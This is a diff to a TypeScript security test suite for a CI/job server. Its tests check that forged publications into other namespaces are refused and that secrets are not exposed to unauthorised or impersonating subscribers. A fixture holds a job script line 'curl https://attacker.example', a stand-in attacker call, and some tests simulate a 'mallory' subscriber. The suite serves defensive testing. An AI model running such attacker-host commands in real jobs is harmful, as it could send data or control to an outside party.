@@ -24,6 +24,7 @@ const commandOf = (kind: string, metadata: unknown) => ({
   metadata,
   'runs-on': ['linux'],
   scripts: ['curl https://attacker.example'],
+  forged: true,
 });
 
 const expectRefused = (answers: readonly Answer[], what: string): void => {
@@ -49,11 +50,13 @@ attack('publication-without-namespace', async () => {
     [...metadata, undefined, null, [], 'team-a'].map((each) => commandOf(kind, each)),
   );
   expectRefused(await published(OF_A, [...bodies, {}]), 'create publications');
-  expect(await receivedBy(teams, inbox)).toEqual([]);
+  expectRefused(await published(OF_A, await ofOtherNamespaces()), 'create publications');
+  const events = await receivedBy(teams, inbox);
+  expect(events.filter(({ forged }) => forged === true)).toEqual([]);
 });
 
-attack('publication-of-other-namespace', async () => {
-  const inbox = await subscribed(teams.server);
+/** A text, but not the name of a namespace of the token; and runs of others. */
+async function ofOtherNamespaces(): Promise<readonly object[]> {
   const theirs = await start(teams.server, oneJob('theirs', [sh('true')]), 'namespace=team-b');
   const names = [
     'team-b',
@@ -65,18 +68,20 @@ attack('publication-of-other-namespace', async () => {
     'TEAM-A',
     'team-a\u0000',
   ];
-  const named = names.map((namespace) => ({ kind: 'Custom', metadata: { namespace } }));
+  const named = names.map((namespace) => ({
+    kind: 'Custom',
+    metadata: { namespace },
+    forged: true,
+  }));
   const ofRun = [theirs, theirs.toUpperCase()].flatMap((workflow_id) =>
     ['Notification', 'Custom'].map((kind) => ({
       kind,
       metadata: { name: 'n', workflow_id, namespace: 'team-a' },
+      forged: true,
     })),
   );
-  expectRefused(await published(OF_A, [...named, ...ofRun]), 'create publications');
-  const of = (await receivedBy(teams, inbox)).map(({ kind }) => kind);
-  expect(of).not.toContain('Custom');
-  expect(of).not.toContain('Notification');
-});
+  return [...named, ...ofRun];
+}
 
 attack('command-in-own-namespace', async () => {
   const inbox = await subscribed(teams.server);
@@ -194,6 +199,8 @@ attack('commands-without-right', async () => {
     subscribed(as('plugin', OF_A), asked),
     subscribed(as('old plugin'), asked),
   ]);
+  // The same subscription for who reaches the same, but may carry out nothing.
+  await subscribe(as('mallory', { ...OF_A, ...reader }), inboxes[2]?.endpoint ?? '', asked);
   const run = await start(server, WITH_SECRET, 'namespace=team-a');
   const like = { kind: 'ExecutionCommand', metadata: { namespace: 'team-a' } };
   await eventually('the command of the step', async () => {
@@ -206,17 +213,4 @@ attack('commands-without-right', async () => {
   for (const text of texts) expect(text).toContain('echo');
   const shown = texts.map((text) => text.includes('hunter2-unmasked'));
   expect(shown).toEqual([false, false, true, true]);
-});
-
-attack('plugin-subscribed-again', async () => {
-  const { bench, server, as } = teams;
-  const agent = await bench.agent(server, { tags: ['linux'], namespaces: '*' });
-  onTestFinished(() => agent.child.kill('SIGKILL'));
-  const asked = { matchKind: 'ExecutionCommand' };
-  const inbox = await subscribed(as('plugin', OF_A), asked);
-  await subscribe(as('mallory', { ...OF_A, resources: ['subscriptions'] }), inbox.endpoint, asked);
-  await start(server, WITH_SECRET, 'namespace=team-a');
-  await eventually('the command with its secret', () =>
-    JSON.stringify(inbox.deliveries).includes('hunter2-unmasked'),
-  );
 });
